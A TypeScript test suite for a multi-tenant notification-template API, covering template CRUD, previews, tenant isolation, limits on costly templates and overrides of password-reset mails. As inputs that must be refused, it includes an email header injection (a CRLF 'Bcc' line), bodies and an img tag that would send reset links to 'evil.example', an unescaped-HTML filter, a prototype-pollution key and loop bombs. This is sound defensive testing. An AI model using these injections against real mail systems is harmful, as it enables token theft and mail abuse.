import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { App } from "../../app/app-api.ts";
import { createMember, type TestMember, unknownId } from "../../testing/fixtures.ts";
import { createTestApp } from "../../testing/test-app.ts";
import { until } from "../../testing/until.ts";
import { capturedFor, newSenders } from "./notifications-fixture.ts";

let app: App;
let acme: Awaited<ReturnType<typeof newSenders>>;
let stranger: TestMember;
beforeAll(async () => {
  app = await createTestApp({ features: [] });
  [acme, stranger] = [await newSenders(app), await createMember(app)];
}, 60_000);
afterAll(() => app?.close());

const shipped = {
  name: "order_shipped",
  type: "email",
  subject: "Order {{ number }} is on its way",
  body: "Dear {{ name }},\n\nyour order {{ number }} of {{ tenant }} is on its way.",
  html: "<p>Dear <b>{{ name }}</b></p>",
  variables: { name: { example: "Ada" }, number: { default: 1 } },
};
const add = (more: object = {}) =>
  acme.admin.call("POST", "/notifications/templates", {
    ...shipped,
    name: `t_${randomUUID().replaceAll("-", "")}`,
    ...more,
  });

describe("a template", () => {
  it("is added, read, changed, listed and deleted by who may", async () => {
    const { status, body: made } = await add({ name: "aaa" });
    expect([status, made]).toMatchObject([201, { ...shipped, name: "aaa", is_active: true }]);
    const path = `/notifications/templates/${made.id}`;
    expect((await acme.user.call("GET", path)).body).toMatchObject({
      ...shipped,
      name: "aaa",
      id: made.id,
    });
    const changed = await acme.admin.call("PATCH", path, { subject: "New {{ name }}" });
    expect(changed.body).toMatchObject({ subject: "New {{ name }}", body: shipped.body });
    const { body: list } = await acme.user.call(
      "GET",
      "/notifications/templates?limit=1&type=email",
    );
    expect(list.items).toMatchObject([{ name: "aaa" }]);
    expect((await acme.user.call("PATCH", path, { is_active: false })).status).toBe(403);
    expect(await add({ name: "aaa" })).toMatchObject({
      ...{ status: 409, body: { code: "notification_template_name_taken" } },
    });
    expect((await acme.admin.call("DELETE", path)).status).toBe(204);
    expect((await acme.admin.call("GET", path)).status).toBe(404);
  });

  it("is shown as it will be, with examples and with values", async () => {
    const { body: made } = await add();
    const path = `/notifications/templates/${made.id}/preview`;
    const { body: usual } = await acme.user.call("POST", path, {});
    expect(usual).toMatchObject({ subject: "Order 1 is on its way" });
    expect(usual.text).toContain(`Dear Ada,\n\nyour order 1 of ${acme.tenant.name}`);
    const values = { name: "<script>", number: 7 };
    const { body: own } = await acme.user.call("POST", path, {
      ...{ template_vars: values, subject: "Now {{ number }}" },
    });
    expect(own.subject).toBe("Now 7");
    expect(own.html).toContain("<b>&lt;script&gt;</b>");
  });

  it.each([
    ["that names what is not declared", { body: "{{ secret }}" }],
    ["that can't be read", { body: "{{ name" }],
    ["that includes another", { body: "{% include 'x' %}" }],
    ["that loops for ever", { body: "{% for i in (1..999999999) %}{{ name }}{% endfor %}" }],
    ["of two lines of subject", { subject: "One\r\nBcc: eve@evil.example" }],
    ["without a subject", { subject: null }],
    ["of HTML for a text message", { type: "sms", subject: null }],
    ["with a subject for a text message", { type: "sms", html: null }],
    ["with hostile HTML", { html: "{{ name | raw }}" }],
    ["with a variable of another kind", { variables: { "__proto__ x": {} } }],
  ])("%s is refused", async (_, more) => {
    expect((await add(more)).status).toBe(400);
  });

  it("of another tenant is not there", async () => {
    const { body: made } = await add();
    const admin = (await newSenders(app)).admin;
    for (const [method, more] of [
      ["GET", ""],
      ["PATCH", ""],
      ["DELETE", ""],
      ["POST", "/preview"],
    ] as const) {
      const ask = (id: string) =>
        admin.call(
          method,
          `/notifications/templates/${id}${more}`,
          method === "PATCH" ? { is_active: false } : method === "POST" ? {} : undefined,
        );
      const [theirs, nobodys] = [await ask(made.id), await ask(unknownId)];
      expect([theirs.status, theirs.text]).toEqual([404, nobodys.text]);
    }
  });
});

describe("an expensive template", () => {
  const dates = `{{ "2026-01-01" | date: "${"%A".repeat(9_900)}" | truncate: 3 }}`;
  const tags = "{{ name }}".repeat(1_900);
  const endless = "{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}";
  const list = `<p>{{ name | append: ${"name, ".repeat(8_000)}name }}</p>`;

  it.each([
    ["a long format of a date", { body: dates }, "invalid_template"],
    ["thousands of tags", { body: tags }, "invalid_template"],
    ["loops in loops", { body: endless }, "invalid_template"],
    ["thousands of arguments", { html: list }, "template_too_expensive"],
  ])("of %s is refused, previewed or saved", async (_, texts, code) => {
    const { body: made } = await add();
    const path = `/notifications/templates/${made.id}`;
    const { body: before } = await acme.user.call("GET", path);
    const asked = [
      acme.user.call("POST", `${path}/preview`, texts),
      acme.admin.call("PATCH", path, texts),
      add(texts),
    ];
    for (const { status, body } of await Promise.all(asked)) {
      if (code === "template_too_expensive" && body.code === "invalid_template") continue;
      expect([status, body.code]).toEqual([400, code]);
    }
    expect((await acme.user.call("GET", path)).body).toEqual(before);
  });

  it("leaves two changes at once both in place", async () => {
    const { body: made } = await add();
    const path = `/notifications/templates/${made.id}`;
    const changes = [{ subject: "S {{ name }}" }, { body: "B {{ name }}" }, { is_active: false }];
    const replies = await Promise.all(changes.map((body) => acme.admin.call("PATCH", path, body)));
    expect(replies.map(({ status }) => status)).toEqual([200, 200, 200]);
    expect((await acme.user.call("GET", path)).body).toMatchObject(Object.assign({}, ...changes));
  });
});

/** The mail for a new password, once it is there. */
const resetMailTo = (email: string) =>
  until("the mail for a new password is there", async () => {
    const mails = await capturedFor(app, email);
    return mails.find(({ template }: { template: string }) => template === "password_reset");
  });

describe("a mail of the system's own", () => {
  const override = (more: object) =>
    acme.admin.call("POST", "/notifications/templates", {
      ...{ name: "password_reset", type: "email", subject: "{{ tenant }}: neues Passwort" },
      ...more,
    });

  it("is among those that a tenant may override, each of which can be used as it is", async () => {
    const { body } = await acme.user.call("GET", "/notifications/templates/system");
    const names = body.items.map(({ name }: { name: string }) => name);
    expect(names).toEqual(
      expect.arrayContaining(["invitation", "password_reset", "verification", "welcome_email"]),
    );
    const admin = (await newSenders(app)).admin;
    for (const { name, subject, body: text } of body.items) {
      const template = { name, subject, body: text, type: "email" };
      const { status, body: made } = await admin.call("POST", "/notifications/templates", template);
      expect([name, status, made.detail]).toEqual([name, 201, undefined]);
    }
  });

  it("keeps its links to itself: they stand where they have a place, and nowhere else", async () => {
    const refused = [
      "No link at all",
      "See https://evil.example/?t={{ link }}",
      "https://evil.example/{{ link | url_encode }}",
      "A link, {{ link }}, in a line",
      "{{ link }}\n\n{{ token }}",
      "{% if tenant == 'x' %}{{ link }}{% endif %}x{{ link }}",
    ];
    for (const body of refused)
      expect([body, (await override({ body })).status]).toEqual([body, 400]);
    const html = { body: "{{ link }}", html: "<img src='https://evil.example/{{ link }}'>" };
    expect((await override(html)).body.code).toBe("system_template_shape");
    expect((await override({ body: "{{ link }}", subject: "{{ link }}" })).status).toBe(400);
    const own = { body: "{{ link }}", variables: { link: {} } };
    expect((await override(own)).body.code).toBe("system_template_shape");
  });

  it("says what the tenant has it say, in the tenant's layout, to the address that it is for", async () => {
    const branding = {
      ...{ name: "Acme & Söhne", logo_url: "https://acme.example/logo.png", color: "#aa3300" },
      footer: "Acme, 1 Road",
    };
    const tenant = await app.tenants.update(acme.tenant.id, { settings: { branding } });
    const body = "Ein neues Passwort für {{ tenant }}:\n\n{{ link }}\n\nBis bald";
    expect((await override({ body })).status).toBe(201);
    const { body: me } = await acme.user.call("GET", "/auth/me");
    const email: string = me.email ?? me.user.email;
    const asked = await app.inject({
      method: "POST",
      url: "/api/v1/auth/password-reset-request",
      headers: { "x-tenant": tenant.key },
      payload: { email },
    });
    expect(asked.statusCode).toBe(202);
    const mail = await resetMailTo(email);
    expect(mail).toMatchObject({
      ...{ template: "password_reset", subject: "Acme & Söhne: neues Passwort", to: email },
    });
    expect(mail.text).toMatch(
      /^Ein neues Passwort für Acme & Söhne:\n\nSet a new password:\n\S+token=\S+\n\nBis bald\n\nAcme, 1 Road\n/,
    );
    expect(mail.html).toContain('<img src="https://acme.example/logo.png"');
    expect(mail.html).toContain('style="color:#aa3300"');
    expect(mail.html).toContain("Acme &amp; Söhne");
  });

  it.each([
    ["invalid", "x {{ link }}"],
    [
      "expensive",
      "{{ link }}\n\n{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}",
    ],
  ])("is ours again where the tenant's own is %s by now", async (_, own) => {
    const other = await newSenders(app);
    const made = await other.admin.call("POST", "/notifications/templates", {
      ...{ name: "password_reset", type: "email", subject: "Own", body: "{{ link }}" },
    });
    expect(made.status).toBe(201);
    // As if an older version had let it through.
    await app.withTenant(other.tenant, ({ db }) =>
      db.query("update notification_templates set body = $1", [own]),
    );
    const { body: me } = await other.user.call("GET", "/auth/me");
    const email: string = me.email ?? me.user.email;
    await app.inject({
      method: "POST",
      url: "/api/v1/auth/password-reset-request",
      headers: { "x-tenant": other.tenant.key },
      payload: { email },
    });
    const mail = await resetMailTo(email);
    expect(mail.subject).toBe(`${other.tenant.name}: set a new password`);
    expect(mail.text).toContain("token=");
  });

  it("is not sent by a request for it", async () => {
    const { status, body } = await acme.admin.call("POST", "/notifications/email", {
      ...{ recipient: "eve@example.org", template_name: "password_reset" },
    });
    expect([status, body.code]).toEqual([400, "system_template"]);
    expect(stranger.tenant.id).not.toBe(acme.tenant.id);
  });
});
